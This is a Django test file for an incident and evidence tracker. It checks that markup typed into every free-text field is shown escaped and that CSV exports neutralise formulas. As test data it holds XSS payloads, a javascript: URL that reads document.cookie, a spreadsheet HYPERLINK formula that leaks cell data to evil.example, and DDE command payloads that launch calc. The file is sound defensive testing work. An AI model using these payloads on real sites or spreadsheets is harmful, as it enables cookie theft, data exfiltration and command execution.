"""HTML and script in every free-text field: shown escaped everywhere, inert in exports.

Every CharField and TextField a person (or a file's metadata) can fill is found by
introspecting the models, so a field added later is covered without editing this
test. Each is filled with markup; then the admin (changelists, change and history
pages, the review queue), the workspace pages, the official's dossier and the case
report must show it escaped and never as markup, the CSV exports as plain text with
formula cells neutralised, and GeoJSON as a JSON string.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib import admin
from django.contrib.contenttypes.models import ContentType
from django.db import models
from django.urls import reverse
from django.utils.html import escape

from evidence.files import custody
from evidence.models import (
    CustodyEvent,
    EvidenceItem,
    EvidenceLink,
    FlightLog,
    FlightObservation,
    PhotoMetadata,
    SatelliteImage,
    Witness,
)
from evidence.models import Testimony as WitnessTestimony  # not a pytest class
from tracker.models import (
    ApiToken,
    AttackType,
    Attribution,
    Force,
    Incident,
    IncidentRelation,
    Job,
    Official,
    OfficialAlias,
    Place,
    Position,
    ReviewEvent,
    ReviewStatus,
    SourceType,
    TargetType,
    Unit,
    Weapon,
)
from tracker.tests import factories as f

pytestmark = pytest.mark.django_db

PAYLOAD = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SHORT = "<i id=x>"  # for fields too short for PAYLOAD
# Markup that must never reach a page, nor a link that runs script.
RAW = ("<script>alert(", "<img src=x", SHORT, 'href="javascript:')
ESCAPED = escape(PAYLOAD)
SHOWN_ESCAPED = (escape("<script>alert("), escape(SHORT))  # either proves a field was shown

# Machine-set text that still comes from outside: the client's file name.
FROM_OUTSIDE = {(EvidenceItem, "original_filename")}
# Free text too short for any tag: TargetType.colour (#rrggbb), a 7-letter nationality.
MIN_LENGTH = len(SHORT)

MODELS = (
    AttackType,
    Weapon,
    TargetType,
    SourceType,
    Place,
    Incident,
    IncidentRelation,
    Force,
    Unit,
    Official,
    OfficialAlias,
    Position,
    Attribution,
    EvidenceItem,
    EvidenceLink,
    PhotoMetadata,
    SatelliteImage,
    Witness,
    WitnessTestimony,
    ReviewEvent,
    FlightLog,
    FlightObservation,
    Job,
    ApiToken,
)

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "place": "+cmd|' /C calc'!A0",
    "weapon": "@SUM(1+1)*cmd|' /C calc'!A0",
    "attack_type": "-2+3+cmd|' /C calc'!A0",
}


def free_text_fields(model: type[models.Model]) -> list[models.Field]:
    """The model's text fields a person can fill: editable, no fixed choices."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and (field.editable or (model, field.name) in FROM_OUTSIDE)
        and (field.max_length is None or field.max_length >= MIN_LENGTH)
    ]


def hostile(model: type[models.Model]) -> dict[str, str]:
    """Markup for every free-text field of ``model`` (the long payload where it fits)."""
    return {
        field.name: PAYLOAD
        if field.max_length is None or field.max_length >= len(PAYLOAD)
        else SHORT
        for field in free_text_fields(model)
    }


@pytest.fixture
def case(researcher, superuser):
    """One record of every model, every free-text field holding markup, all linked."""
    vocab = {m: m.objects.create(**hostile(m)) for m in MODELS[:4]}
    place = f.PlaceFactory(**hostile(Place))
    incident = f.IncidentFactory(
        **hostile(Incident),
        place=place,
        attack_type=vocab[AttackType],
        weapon=vocab[Weapon],
        target_types=[vocab[TargetType]],
        status=ReviewStatus.SUBMITTED,
        created_by=researcher,
        updated_by=researcher,
    )
    other = f.IncidentFactory(
        title=FORMULAS["title"],
        place=f.PlaceFactory(name=FORMULAS["place"]),
        weapon=Weapon.objects.create(name=FORMULAS["weapon"]),
        attack_type=AttackType.objects.create(name=FORMULAS["attack_type"]),
        created_by=researcher,
    )
    IncidentRelation.objects.create(
        **hostile(IncidentRelation), from_incident=incident, to_incident=other, kind="follow_up"
    )
    force = Force.objects.create(**hostile(Force))
    unit = f.UnitFactory(**hostile(Unit), force=force)
    official = f.OfficialFactory(**hostile(Official))
    f.OfficialAliasFactory(**hostile(OfficialAlias), official=official)
    f.PositionFactory(**hostile(Position), official=official, unit=unit)
    item = f.EvidenceItemFactory(**hostile(EvidenceItem), created_by=researcher)
    # Verified, so shown read-only: the admin must not make its URL a link.
    f.EvidenceItemFactory(
        title=PAYLOAD,
        source_url="javascript:alert(document.cookie)",
        status=ReviewStatus.VERIFIED,
        created_by=researcher,
    )
    PhotoMetadata.objects.create(**hostile(PhotoMetadata), item=item, width=64, height=48)
    EvidenceLink.objects.create(**hostile(EvidenceLink), item=item, incident=incident)
    custody.record(item, CustodyEvent.Action.ACQUIRED, actor=researcher, details={"from": PAYLOAD})
    for target in (incident, other):
        attribution = Attribution.objects.create(
            **hostile(Attribution), incident=target, unit=unit, official=official, role="direct"
        )
        attribution.supporting_evidence.add(item)
    f.SatelliteImageFactory(**hostile(SatelliteImage))
    witness = f.WitnessFactory(**hostile(Witness))
    f.TestimonyFactory(**hostile(WitnessTestimony), witness=witness)
    log = f.FlightLogFactory(**hostile(FlightLog))
    f.FlightObservationFactory(**hostile(FlightObservation), log=log)
    ReviewEvent.objects.create(
        **hostile(ReviewEvent),
        content_type=ContentType.objects.get_for_model(incident),
        object_id=incident.pk,
        from_status=ReviewStatus.DRAFT,
        to_status=ReviewStatus.SUBMITTED,
        actor=researcher,
    )
    # A job's words come from errors and handlers (an exception may quote a file).
    Job.objects.create(**hostile(Job), kind="fixity", requested_by=superuser)
    ApiToken.issue(superuser, scopes=["read"], **hostile(ApiToken))  # its own: the admin's
    return {"incident": incident, "other": other, "official": official, "item": item}


def test_every_model_has_free_text_to_attack():
    """The introspection finds the fields (an empty set would make the test vacuous)."""
    found = {m.__name__: [field.name for field in free_text_fields(m)] for m in MODELS}
    assert all(found.values()), found
    assert "title" in found["Incident"] and "narrative" in found["Incident"]
    assert "pseudonym" in found["Witness"] and "comment" in found["ReviewEvent"]
    assert "original_filename" in found["EvidenceItem"]


def check_escaped(response, *, full: bool = False) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert [raw for raw in RAW if raw in page] == []
    assert any(shown in page for shown in SHOWN_ESCAPED)
    if full:
        assert ESCAPED in page
    return page


def is_hostile(obj: models.Model) -> bool:
    """Does any column of the record hold markup (a custody event: in its details)?"""
    return any(
        text in str(getattr(obj, field.attname))
        for field in obj._meta.concrete_fields
        for text in (PAYLOAD, SHORT)
    )


def admin_pages() -> list[tuple[str, bool]]:
    """Every changelist, and the change and history pages of every hostile record, each
    with whether it must show a hostile value. A history page of a model without
    django-simple-history lists only admin log entries under the record's name, which
    for some (a satellite scene, a flight log) holds no free text."""
    pages = []
    for model in admin.site._registry:
        meta = model._meta
        if meta.app_label not in ("tracker", "evidence"):
            continue
        pages.append((reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist"), True))
        for obj in filter(is_hostile, model.objects.all()):
            pages.append(
                (reverse(f"admin:{meta.app_label}_{meta.model_name}_change", args=[obj.pk]), True)
            )
            history = reverse(f"admin:{meta.app_label}_{meta.model_name}_history", args=[obj.pk])
            named = any(text in str(obj) for text in (PAYLOAD, SHORT))
            pages.append((history, named or hasattr(model, "history")))
    return pages


def test_admin_pages_show_markup_escaped(client, superuser, case):
    client.force_login(superuser)
    unescaped, blank = [], []
    pages = admin_pages()
    changed = {"/".join(url.split("/")[2:4]) for url, _ in pages if url.endswith("/change/")}
    registered = {f"{m._meta.app_label}/{m._meta.model_name}" for m in admin.site._registry}
    assert {r for r in registered if r.startswith(("tracker/", "evidence/"))} == changed
    for url, must_show in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        page = response.content.decode()
        if any(raw in page for raw in RAW):
            unescaped.append(url)
        elif must_show and not any(shown in page for shown in SHOWN_ESCAPED):
            blank.append(url)
    assert unescaped == []
    # Each page shows a hostile value (escaped), so the test does see the text.
    assert blank == []


def test_review_queue_and_my_work_show_markup_escaped(client, reviewer, researcher, case):
    client.force_login(reviewer)
    check_escaped(client.get(reverse("review_queue")), full=True)
    client.force_login(researcher)
    check_escaped(client.get(reverse("my_work")), full=True)


def test_workspace_pages_show_markup_escaped(client, superuser, case):
    client.force_login(superuser)
    code = case["incident"].code
    for url in ("/incidents/", "/reports/case/"):
        page = check_escaped(client.get(url), full=True)
        assert escape(FORMULAS["title"]) in page  # quotes and & escaped too
    page = check_escaped(client.get(f"/incidents/{code}/"), full=True)
    assert page.count(ESCAPED) >= 5  # title, narrative, place, evidence, attribution...
    for url in ("/map/", "/timeline/"):
        check_escaped(client.get(url))


def test_official_dossier_and_search_show_markup_escaped(client, superuser, case):
    client.force_login(superuser)
    pk = case["official"].pk
    for url in (f"/officials/{pk}/", f"/officials/{pk}/print/"):
        page = check_escaped(client.get(url), full=True)
        assert page.count(ESCAPED) >= 3  # the official's name, titles, basis
    check_escaped(client.get("/officials/", {"q": "script alert"}), full=True)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["X-Content-Type-Options"] == "nosniff"
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_incident_csv_holds_markup_as_text_and_neutralises_formulas(client, superuser, case):
    client.force_login(superuser)
    header, *rows = read_csv(client.get("/incidents/export.csv"))
    by_code = {row[header.index("code")]: dict(zip(header, row, strict=True)) for row in rows}
    hostile_row = by_code[case["incident"].code]
    assert hostile_row["title"] == PAYLOAD
    assert hostile_row["place"] == PAYLOAD
    assert PAYLOAD in hostile_row["attributed_to"]
    formula_row = by_code[case["other"].code]
    assert {column: formula_row[column] for column in FORMULAS} == {
        column: "'" + value for column, value in FORMULAS.items()
    }


def test_dossier_csv_holds_markup_as_text_and_neutralises_formulas(client, superuser, case):
    client.force_login(superuser)
    header, *rows = read_csv(client.get(f"/officials/{case['official'].pk}/dossier.csv"))
    by_code = {row[header.index("incident")]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_code[case["incident"].code]["official"] == PAYLOAD
    assert by_code[case["incident"].code]["title"] == PAYLOAD
    assert by_code[case["other"].code]["title"] == "'" + FORMULAS["title"]
    assert by_code[case["other"].code]["place"] == "'" + FORMULAS["place"]


def test_geojson_holds_markup_as_a_json_string(client, superuser, case):
    client.force_login(superuser)
    response = client.get("/incidents/export.geojson")
    assert response.status_code == 200
    assert not response["Content-Type"].startswith("text/html")
    body = b"".join(response.streaming_content if response.streaming else [response.content])
    features = {
        feature["properties"]["code"]: feature["properties"]
        for feature in json.loads(body)["features"]
    }
    assert features[case["incident"].code]["title"] == PAYLOAD
    assert features[case["incident"].code]["place"] == PAYLOAD
    assert features[case["other"].code]["title"] == FORMULAS["title"]  # JSON: no quoting
